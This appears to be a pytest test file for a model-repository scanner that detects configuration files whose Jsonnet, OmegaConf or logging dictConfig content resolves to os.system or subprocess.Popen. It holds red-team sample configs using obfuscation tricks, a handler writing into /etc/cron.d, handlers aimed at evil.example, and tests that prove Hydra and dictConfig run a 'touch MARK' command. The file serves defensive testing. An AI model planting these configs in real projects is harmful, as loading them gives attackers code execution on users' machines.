"""Red team 20b's config-target findings (proofs: /work/redteam-20b/20b-1..5; the real loaders are
jsonargparse 4.53.0 + jsonnet 0.22 in /work/rt16b-venv and hydra-core 1.3.2 + OmegaConf 2.3.0 in
/work/rt20b-venv, run here in a throw-away subprocess when they exist — CI has neither and skips them).

* 20b-1/20b-5: Jsonnet is judged by its grammar whatever the program starts with (``if``, ``assert``,
  a ``std`` call) and an index or slice computes.
* 20b-2: the Jsonnet lexer is Jsonnet's (text blocks end at a less indented ``|||``, CR before the
  header's LF); only a true lexical error makes a text data.
* 20b-3: an interpolation is judged by what it can resolve to (resolver defaults, literal parts).
* 20b-4: a logging ``dictConfig`` section's stdlib handler classes are logging, not a target.
"""

from __future__ import annotations

import json
import os
import subprocess
from pathlib import Path

import pytest

from mlbom.formats import config_targets as ct
from mlbom.scanner import scan_bytes

ROOT = Path(__file__).resolve().parents[2]
JSONNET_VENV = Path("/work/rt16b-venv/bin/python")
HYDRA_VENV = Path("/work/rt20b-venv/bin/python")
APP = """
import os, sys
from typing import Callable
from jsonargparse import ArgumentParser, ActionConfigFile
p = ArgumentParser(parser_mode=sys.argv[2], exit_on_error=False)
p.add_argument("--config", action=ActionConfigFile)
p.add_argument("--model.activation", type=Callable)
try:
    cfg = p.parse_args(["--config", sys.argv[1]])
    print("ACTIVATION-IS-OS-SYSTEM", cfg.model.activation is os.system)
except Exception as e:
    print("raised", str(e)[:300])
"""


def _scan(text: str, name: str) -> tuple[str, set[str], str]:
    r = scan_bytes(text.encode(), name)
    return r.verdict, {f.id for f in r.findings}, " ".join(f.message for f in r.findings)


def _jsonargparse(tmp_path: Path, text: str, name: str, mode: str) -> str:
    """What jsonargparse does with the file, in a throw-away subprocess (``omegaconf``: with the
    rt20b venv's OmegaConf 2.3.0 importable too)."""
    if not JSONNET_VENV.exists():
        pytest.skip("no jsonargparse venv (/work/rt16b-venv)")
    py = JSONNET_VENV
    env = {"PATH": "/usr/bin:/bin"}
    if mode == "omegaconf":
        if not HYDRA_VENV.exists():
            pytest.skip("no OmegaConf venv (/work/rt20b-venv)")
        py = HYDRA_VENV
        env["PYTHONPATH"] = "/work/rt16b-venv/lib/python3.11/site-packages"
    (tmp_path / "app.py").write_text(APP)
    (tmp_path / name).write_text(text, newline="")
    out = subprocess.run([str(py), str(tmp_path / "app.py"), name, mode], cwd=tmp_path, capture_output=True,
                         text=True, timeout=120, env=env)
    return out.stdout + out.stderr


def _evaluate(texts: list[str]) -> list[str]:
    """What the real Jsonnet (the binding jsonargparse uses) makes of each text: its JSON or REFUSED."""
    if not JSONNET_VENV.exists():
        pytest.skip("no jsonnet venv (/work/rt16b-venv)")
    code = ("import _jsonnet, json, sys\n"
            "for t in json.loads(sys.stdin.read()):\n"
            "    try:\n        print(json.dumps(json.loads(_jsonnet.evaluate_snippet('c', t))))\n"
            "    except RuntimeError as e:\n        print('REFUSED')\n")
    out = subprocess.run([str(JSONNET_VENV), "-c", code], input=json.dumps(texts), capture_output=True,
                         text=True, timeout=120)
    return out.stdout.splitlines()


# --- 20b-1: any expression is a program -------------------------------------------------------------
NON_OBJECT_START = [
    'if 1 == 1 then {model: {activation: "os." + "system"}} else {}\n',
    'assert true; {model: {activation: "os." + "system"}}\n',
    'std.mergePatch({}, {model: {activation: "os." + "system"}})\n',
    'std.parseYaml("model: {activation: os.sy" + "stem}")\n',
    'assert true : "msg"; {model: {activation: "os." + "system"}}\n',
    '({model: {activation: "os.sys"}} + {model+: {activation+: "tem"}})\n',
    'error "x" + std.toString({model: {activation: "os.sys" + "tem"}})\n',
]


@pytest.mark.parametrize("text", NON_OBJECT_START)
def test_20b1_a_program_that_starts_with_any_expression_is_judged(tmp_path: Path, text: str) -> None:
    verdict, ids, msg = _scan(text, "config.json")
    assert verdict in ("suspicious", "unsafe") and "config.unparsed-targets" in ids, msg
    assert ct.jsonnet_like(text)


def test_20b1_jsonargparse_evaluates_them(tmp_path: Path) -> None:
    for text in NON_OBJECT_START[:4]:
        assert "ACTIVATION-IS-OS-SYSTEM True" in _jsonargparse(tmp_path, text, "config.json", "jsonnet"), text


# --- 20b-2: the lexer is Jsonnet's ------------------------------------------------------------------
TEXT_BLOCKS = [  # red team 20b-2's files: a content line "|||" indented as the block; CRLF; no backtick
    '{\n  model: {activation: std.split(|||\n      os.system\n      |||\n      `\n    |||, "\\n")[0]},\n}\n',
    '{\r\n  model: {activation: std.rstripChars(|||\r\n      os.system\r\n      `\r\n    |||, "\\n`\\r")},\r\n}\r\n',
    'local m = |||\n    os\n    |||\n    `\n  |||;\n{model: {activation: std.split(m, "\\n")[0] + ".system"}}\n',
    '{\n  model: {activation: std.split(|||\n      os.system\n      |||\n      {\n    |||, "\\n")[0]},\n}\n',
    '{model: {activation: std.rstripChars(|||-\n\n    os.system\n  |||, "\\n")}}\n',  # chomp, a blank line
    '{model: {activation: ""+|||\n  os.system\n|||}}\n',  # an operator run stops before "|||"
]


@pytest.mark.parametrize("text", TEXT_BLOCKS)
def test_20b2_text_blocks_lex_as_jsonnet_lexes_them(text: str) -> None:
    verdict, ids, msg = _scan(text, "config.json")
    assert verdict in ("suspicious", "unsafe") and "config.unparsed-targets" in ids, msg
    assert ct._jsonnet_tokens(text) is not None


def test_20b2_the_real_jsonnet_evaluates_the_text_blocks() -> None:
    got = _evaluate(TEXT_BLOCKS)
    assert len(got) == len(TEXT_BLOCKS) and all('"os.system"' in g or "os\\n" in g or "os." in g for g in got), got


def test_20b2_the_lexer_ends_a_block_where_jsonnet_does() -> None:
    text = '|||\n  a\n  |||\n|||'  # the indented "|||" is text; the less indented one ends the block
    tokens = ct._jsonnet_tokens(text)
    assert tokens is not None and [k for k, _t, _e in tokens] == ["block"]
    if JSONNET_VENV.exists():
        assert _evaluate([text, '|||\n  a\n b\n|||']) == ['"a\\n|||\\n"', "REFUSED"]
    assert ct._jsonnet_tokens('|||\n  a\n b\n') is None
    assert ct._jsonnet_tokens('|||\na\n|||') is None  # the first line must be indented
    assert ct._jsonnet_tokens('||| x\n  a\n|||') is None  # nothing but spaces before the header's LF
    assert ct._jsonnet_tokens('|||\r\n  a\r\n|||') is not None
    assert ct._jsonnet_tokens("@'it''s' + @\"a\"\"b\"") is not None
    assert ct._jsonnet_tokens('{a: "x"} `') is None and ct._jsonnet_tokens('{a: "x\n') is None
    assert ct._jsonnet_tokens('{a: é}') is None  # identifiers are ASCII


# a lexical error per the spec: Jsonnet refuses the text (jsonnet_load falls back to YAML) — data
LEX_ERRORS = ['{model: {activation: "os." + "system"}} `\n', '{model: {activation: "os." + "system"}} ?\n']


def test_20b2_a_true_lexical_error_is_refused_by_jsonnet_and_judged_as_data() -> None:
    for text in LEX_ERRORS:
        assert ct._jsonnet_program(text) is None
    assert _evaluate(LEX_ERRORS) == ["REFUSED"] * len(LEX_ERRORS)


# --- 20b-5: an index or a slice computes ------------------------------------------------------------
SLICES = ['{model: {activation: "Xos.system"[1:]}}\n', '{model: {activation: {k: "Xos.system"}["k"][1:]}}\n',
          '{model: {activation: "Xos.systemYY"[1:10]}}\n', '{model: {activation: ["x", "os.system"][1]}}\n',
          '{["class_path"]: "os.system"}\n']


@pytest.mark.parametrize("name", ["config.json", "config.jsonnet"])
@pytest.mark.parametrize("text", SLICES)
def test_20b5_index_and_slice_compute(text: str, name: str) -> None:
    verdict, ids, msg = _scan(text, name)
    assert verdict in ("suspicious", "unsafe") and "config.unparsed-targets" in ids, msg
    assert ct._code_hint(text) is not None


def test_20b5_jsonargparse_evaluates_the_slices(tmp_path: Path) -> None:
    for text in SLICES[:3]:
        assert "ACTIVATION-IS-OS-SYSTEM True" in _jsonargparse(tmp_path, text, "config.json", "jsonnet"), text


def test_20b5_array_literals_stay_data() -> None:
    for text in ('{"a": [1, [2, 3]], "b": [[1], ["x"]]}\n', '{a: [["x", "y"], []]}\n', '[[1, 2], [3, 4]]\n'):
        assert ct._jsonnet_program(text) is None and ct._jsonnet_computes(text) is None, text


# --- no false positive on the text files of model repos ---------------------------------------------
REPO_TEXTS = {
    "merges.txt": "#version: 0.2\nĠ t\nĠ a\nh e\ni n\nr e\no n\nĠt he\ne r\n",
    "vocab.txt": "[PAD]\n[unused0]\n[UNK]\n[CLS]\n[SEP]\n[MASK]\n!\n\"\n#\n$\n%\n&\n'\n(\n)\n*\n+\n,\n-\n.\n/\n0\n##s\n",
    "ascii-vocab.txt": "[PAD]\n[UNK]\nthe\nof\nand\n##ing\n.\n,\n",
    "README.md": "---\nlicense: apache-2.0\n---\n# Model\n\nThis model (a BERT) is trained on data. See the paper.\n",
    "README": "This model is trained on data (see paper.pdf) and evaluated with accuracy > 0.9 - nothing else.\n",
    "LICENSE": "Apache License\nVersion 2.0, January 2004\nhttp://www.apache.org/licenses/\n\nTERMS AND CONDITIONS\n",
    ".gitattributes": "*.bin filter=lfs diff=lfs merge=lfs -text\n*.safetensors filter=lfs diff=lfs merge=lfs -text\n",
    "requirements.txt": "torch>=2.0\ntransformers==4.40.0\n-r extra.txt\nnumpy; python_version >= '3.9'\n",
    "data.csv": "id,text,label\n1,hello world,0\n2,foo.bar,1\n",
    "numbers.csv": "0.1,-2,3e-5\n4,5.5,-6\n",
    "data.tsv": "a\tb\n1\t-2\n",
    "chat_template.txt": "{% for message in messages %}{{ message['content'] }}{% endfor %}",
    "config.yaml": "model:\n  lr: 0.1 * 2\n  name: a.b\n  act: !!str x\n",
    "settings.ini": "[section]\nkey = value + 1\n",
    ".gitignore": "!.gitignore\n*.pyc\n",
    "data.jsonl": '[1, 2]\n[3, 4]\n',  # one index of the other to Jsonnet, with a ",": refused
    "records.jsonl": '{"a": 1}\n["x", "y"]\n',
}


def test_20b_jsonnet_refuses_json_lines_of_arrays() -> None:
    assert _evaluate([REPO_TEXTS["data.jsonl"], REPO_TEXTS["records.jsonl"]]) == ["REFUSED", "REFUSED"]


@pytest.mark.parametrize("name", sorted(REPO_TEXTS))
def test_20b_no_false_positive_on_model_repo_texts(name: str) -> None:
    text = REPO_TEXTS[name]
    verdict, ids, msg = _scan(text, name)
    assert "config.unparsed-targets" not in ids and verdict == "safe", msg
    assert ct._jsonnet_program(text) is None


def test_20b_no_false_positive_on_the_fixture_and_corpus_texts() -> None:
    roots = [ROOT / "tests" / "fixtures", Path("/work/shared/corpus")]
    seen = 0
    for root in roots:
        for dp, _dn, files in os.walk(root):
            for f in files:
                p = Path(dp) / f
                if p.suffix in (".jinja", ".py", ".jsonnet", ".libsonnet") or p.stat().st_size > 1 << 20:
                    continue
                try:
                    text = p.read_text(encoding="utf-8")
                except (UnicodeDecodeError, OSError):
                    continue
                seen += 1
                assert ct._jsonnet_program(text) is None, p
    assert seen > 100


# --- 20b-3: an interpolation is judged by what it can resolve to -----------------------------------
KEYLESS = {
    "select.yaml": "model:\n  activation: ${oc.select:no_such_key,os.system}\n",
    "env.yaml": "model:\n  activation: ${oc.env:MLBOM_RT20B_UNSET_VAR,os.system}\n",
    "select_head.yaml": "model:\n  activation: ${oc.select:no_such_key,os}.system\n",
    "select_tail.yaml": "model:\n  activation: os.${oc.select:no_such_key,system}\n",
    "quoted.yaml": "model:\n  activation: \"${oc.select:no_such_key,'os.sys${oc.env:UNSET_X,tem}'}\"\n",
    "decode.yaml": "model:\n  activation: ${oc.decode:'os.system'}\n",
    "node.yaml": "parts:\n  m: os\n  f: system\nmodel:\n  activation: ${parts.m}.${parts.f}\n",
    "relative.yaml": "model:\n  m: os.\n  f: system\n  activation: ${.m}${.f}\n",
    "select_json.json": '{"model": {"activation": "${oc.select:no_such_key,os.system}"}}',
    "node_json.json": '{"m": "os.", "model": {"activation": "${m}system"}}',
}


@pytest.mark.parametrize("name", sorted(KEYLESS))
def test_20b3_a_keyless_interpolation_resolving_to_a_denied_path_is_unsafe(tmp_path: Path, name: str) -> None:
    verdict, ids, msg = _scan(KEYLESS[name], name)
    assert verdict == "unsafe" and "code.dangerous-target" in ids and "os.system" in msg, msg


def test_20b3_jsonargparse_omegaconf_mode_imports_them(tmp_path: Path) -> None:
    for name in ("select.yaml", "env.yaml", "select_head.yaml", "select_tail.yaml", "select_json.json"):
        got = _jsonargparse(tmp_path, KEYLESS[name], name, "omegaconf")
        assert "ACTIVATION-IS-OS-SYSTEM True" in got, (name, got)


PARTIAL = ["model:\n  activation: os.${oc.env:MLBOM_ACT}\n", "model:\n  activation: ${oc.env:MLBOM_MOD}.system\n",
           "model:\n  activation: os.sy${oc.env:MLBOM_ACT}\n"]


@pytest.mark.parametrize("text", PARTIAL)
def test_20b3_an_unknown_part_next_to_a_denied_name_is_suspicious(text: str) -> None:
    verdict, ids, msg = _scan(text, "config.yaml")
    assert verdict == "suspicious" and "code.remote" in ids, msg


def test_20b3_ordinary_interpolations_stay_safe() -> None:
    text = ("paths:\n  root: /data\n  out: ${paths.root}/out\nhome: ${oc.env:HOME}/data\nname: ${oc.select:run.name,default}\n"
            "log: ${hydra:runtime.output_dir}/${hydra:job.name}.log\nact: torch.nn.${oc.select:act,ReLU}\n"
            "lr: ${oc.decode:'0.1'}\nfile: ${paths.root}/model.safetensors\n")
    verdict, _ids, msg = _scan(text, "config.yaml")
    assert verdict == "safe", msg
    assert _scan(json.dumps({"a": "${oc.env:HOME}/x", "b": "${a}.json"}), "config.json")[0] == "safe"


HYDRA = {
    "select.yaml": "${oc.select:no_such_key,os.system}",
    "env.yaml": "${oc.env:MLBOM_RT20B_UNSET_VAR,os.system}",
    "env_part.yaml": "${oc.env:MLBOM_RT20B_UNSET_VAR,os}.system",
}


@pytest.mark.parametrize("name", sorted(HYDRA))
def test_20b3_a_hydra_target_resolving_to_a_denied_path_is_unsafe(tmp_path: Path, name: str) -> None:
    mark = tmp_path / "MARK"
    text = f'model:\n  _target_: {HYDRA[name]}\n  _args_: ["touch {mark}"]\n'
    verdict, ids, msg = _scan(text, name)
    assert verdict == "unsafe" and "code.dangerous-target" in ids, msg
    if not HYDRA_VENV.exists():
        pytest.skip("no hydra-core 1.3.2 venv (/work/rt20b-venv)")
    (tmp_path / name).write_text(text)
    env = {k: v for k, v in os.environ.items() if k != "MLBOM_RT20B_UNSET_VAR"}
    subprocess.run([str(HYDRA_VENV), "-c", "import sys; from omegaconf import OmegaConf; from hydra.utils import "
                    "instantiate; instantiate(OmegaConf.load(sys.argv[1]).model)", name], cwd=tmp_path,
                   capture_output=True, timeout=120, env=env)
    assert mark.exists()  # Hydra 1.3.2 ran os.system("touch MARK")


# --- 20b-4: a logging dictConfig's standard-library classes are logging, not targets ----------------
FIXTURES = ROOT / "tests" / "fixtures" / "hydra-logging"


@pytest.mark.parametrize("name", ["job_logging-default.yaml", "hydra_logging-hydra_debug.yaml"])
def test_20b4_hydras_own_logging_configs_are_safe(name: str) -> None:
    r = scan_bytes((FIXTURES / name).read_bytes(), name)
    assert r.verdict == "safe", [(f.id, f.message) for f in r.findings]
    logs = [f for f in r.findings if f.id == "config.logging"]
    assert logs and all(f.severity == "info" and "logging.FileHandler" in f.message for f in logs)


OVERRIDE = ("job_logging:\n  handlers:\n    file:\n      class: logging.handlers.RotatingFileHandler\n"
            "      filename: ${hydra.runtime.output_dir}/train.log\n")


def test_20b4_a_hydra_project_logging_override_is_safe() -> None:
    assert _scan(OVERRIDE, "configs/hydra/default.yaml")[0] == "safe"
    assert _scan(json.dumps({"version": 1, "handlers": {"f": {"class": "logging.FileHandler", "filename": "x.log"}}}),
                 "logging.json")[0] == "safe"


DICTCONFIG = "version: 1\nhandlers:\n  h:\n{body}root:\n  handlers: [h]\n"


@pytest.mark.parametrize(("body", "verdict", "severity"), [
    # (a file handler writing outside the run folder is a file write the config chooses: unsafe since 21b-6)
    ("    class: logging.FileHandler\n    filename: /etc/cron.d/job\n", "unsafe", "high"),
    ("    class: logging.FileHandler\n    filename: ../../x.log\n", "unsafe", "high"),
    ("    class: logging.handlers.SysLogHandler\n    address: [evil.example, 514]\n", "safe", "medium"),
    ("    class: logging.handlers.HTTPHandler\n    host: evil.example\n    url: /log\n", "safe", "medium"),
    ("    class: logging.StreamHandler\n", "safe", None),
])
def test_20b4_what_a_stdlib_handler_does_is_reported(body: str, verdict: str, severity: str | None) -> None:
    r = scan_bytes(DICTCONFIG.format(body=body).encode(), "logging.yaml")
    logs = [f.severity for f in r.findings if f.id == "config.logging"]
    assert r.verdict == verdict and logs == ([severity] if severity else []), r.findings


@pytest.mark.parametrize("text", [
    DICTCONFIG.format(body="    (): os.system\n    command: touch MARK\n"),
    DICTCONFIG.format(body="    class: os.system\n"),
    "version: 1\nformatters:\n  f:\n    (): subprocess.Popen\n",
    "model:\n  activation: logging.FileHandler\n",  # no dictConfig: a Callable argument's value
    "handlers:\n  h:\n    class: logging.FileHandler\n",  # no version, no Hydra logging key
    "version: 1\nhandlers:\n  h:\n    class: logging.handlers.os.system\n",
])
def test_20b4_a_factory_or_a_foreign_class_stays_a_target(text: str) -> None:
    verdict, ids, msg = _scan(text, "logging.yaml")
    assert verdict == "unsafe" and "code.dangerous-target" in ids, msg


def test_20b4_dictconfig_calls_a_factory(tmp_path: Path) -> None:
    """The real ``logging.config.dictConfig`` (stdlib) calls a ``()`` factory: a throw-away subprocess."""
    import sys

    pytest.importorskip("yaml")
    mark = tmp_path / "MARK"
    text = DICTCONFIG.format(body=f"    (): os.system\n    command: touch {mark}\n")
    (tmp_path / "c.yaml").write_text(text)
    subprocess.run([sys.executable, "-c", "import logging.config, sys, yaml; "
                    "logging.config.dictConfig(yaml.safe_load(open(sys.argv[1])))", str(tmp_path / "c.yaml")],
                   capture_output=True, timeout=60)
    assert mark.exists()


def test_20b2_the_fast_refusal_never_skips_text_jsonnet_holds_in_a_string() -> None:
    # a backtick inside a text block, a multi-line single-quoted string, a verbatim string: Jsonnet lexes
    # them as strings, so the regex-speed refusal must leave them to the lexer
    for text in ('{a: std.strReplace(|||\n  `os.system\n|||, "`", "")}\n', "{a: 'x\n`' + std.char(96)}\n",
                 '{a: @"`" + "os.system"}\n', "{a: 'o\\u0073' + \"`\"}\n"):
        assert not ct._refused_unlexed(text), text
        assert ct._jsonnet_program(text) is not None, text
    assert ct._refused_unlexed('{a: "x" + "y"} `\n') and ct._refused_unlexed('{a: "x" + é}\n')


def test_prose_where_every_word_follows_for_is_not_a_jsonnet_program(tmp_path: Path) -> None:
    """``for`` binds a name only in ``for NAME in`` (and ``local`` only before ``=``/``(``): prose
    in which every word somewhere follows "for" ("used for models.") has unknown variables, so
    Jsonnet refuses it, and it is plain text (a 1 MB random-word text was `suspicious`)."""
    words = ["models", "are", "used", "data", "tasks"]
    text = "\n".join(f"{a} {b} for {b}. {b} for {a} {a}." for a in words for b in words) + "\n"
    assert ct._jsonnet_program(text) is None
    assert ct._jsonnet_program("local x = 'os.' + 'system';\n{model: {activation: x}}\n") is not None
    assert ct._jsonnet_program("{a: [x for x in ['os.system']][0]}\n") is not None
